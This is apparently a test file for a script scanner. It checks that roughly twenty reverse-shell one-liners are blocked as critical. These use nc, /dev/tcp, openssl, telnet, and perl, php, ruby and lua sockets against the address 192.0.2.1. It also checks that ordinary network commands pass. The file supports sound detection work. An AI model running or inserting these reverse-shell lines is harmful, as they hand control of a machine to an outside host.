// Shells that scripts hand to another machine, and what ordinary scripts do with the same programs.
import { describe, expect, it } from 'vitest';
import { decision, verdicts } from './support.ts';

const script = (line: string): string => `#!/bin/bash\n${line}\n`;

describe('a shell for another machine', () => {
  it.each([
    ['rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f'],
    ['mkfifo /tmp/f\nnc 192.0.2.1 4444 < /tmp/f | /bin/sh > /tmp/f'],
    ['mkfifo /tmp/a /tmp/b; nc 192.0.2.1 1 < /tmp/a > /tmp/b & sh < /tmp/b > /tmp/a'],
    ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:1 > /tmp/s'],
    ['mknod /tmp/b p && telnet 192.0.2.1 1 0</tmp/b | /bin/bash 1>/tmp/b'],
    ['nc 192.0.2.1 4444 | sh'],
    ['0<&9; exec 9<>/dev/tcp/192.0.2.1/4444; sh <&9 >&9 2>&9'],
    ['while read l; do $l; done < /dev/tcp/192.0.2.1/4444'],
    ['while read -r l; do eval "$l"; done < /dev/tcp/192.0.2.1/4444'],
    ['exec 5<>/dev/tcp/192.0.2.1/4444; while read line <&5; do $line 2>&5 >&5; done'],
    ['exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done'],
    ['exec {fd}<>/dev/tcp/192.0.2.1/4444; while read -r -u $fd l; do bash -c "$l"; done'],
    ['while read -u 3 l; do $l; done 3< /dev/tcp/192.0.2.1/4444'],
    ['exec < /dev/tcp/192.0.2.1/4444; while read l; do $l; done'],
    ['read c < /dev/tcp/192.0.2.1/4444; $c'],
    ['bash < /dev/tcp/192.0.2.1/4444 3< /etc/hosts'],
    ['source /dev/tcp/192.0.2.1/4444'],
    [
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'`,
    ],
    [`perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:1");while(<>){system$_;}'`],
    [`php -r '$s=fsockopen("192.0.2.1",1);exec("/bin/sh -i <&3 >&3 2>&3");'`],
    [`ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'`],
    [`lua -e "local s=require('socket').tcp();s:connect('192.0.2.1',1);os.execute('/bin/sh -i <&3')"`],
  ])('blocks %s', async (line) => {
    expect(await verdicts('a.sh', script(line))).toContain('CODE-REVERSE-SHELL CRITICAL');
  });

  it.each([
    ['nc -z localhost 5432 && sh start.sh'],
    ['exec 3<>/dev/tcp/localhost/5432 && echo up'],
    ['while ! timeout 1 bash -c "echo > /dev/tcp/db.example/5432"; do sleep 1; done; ./start.sh'],
    ['read -r now < /dev/tcp/time.example/13; date -s "$now"'],
    ['while read -r name; do $name; done < commands.txt'],
    ['exec 3< list.txt; while read -r f <&3; do rm "$f"; done; exec 3<&-'],
    ['echo ruok | nc localhost 2181 | grep imok'],
    ['sh numbers.sh | nc graphite.example.com 2003'],
    ['mkfifo /tmp/log; tee log.txt < /tmp/log & sh build.sh > /tmp/log; nc -z localhost 1'],
    ['openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout; bash x.sh'],
    [`perl -MIO::Socket::INET -e 'exit(IO::Socket::INET->new("localhost:80") ? 0 : 1)'`],
  ])('passes %s', async (line) => {
    expect(await decision('a.sh', script(line))).toBe('pass');
  });
});
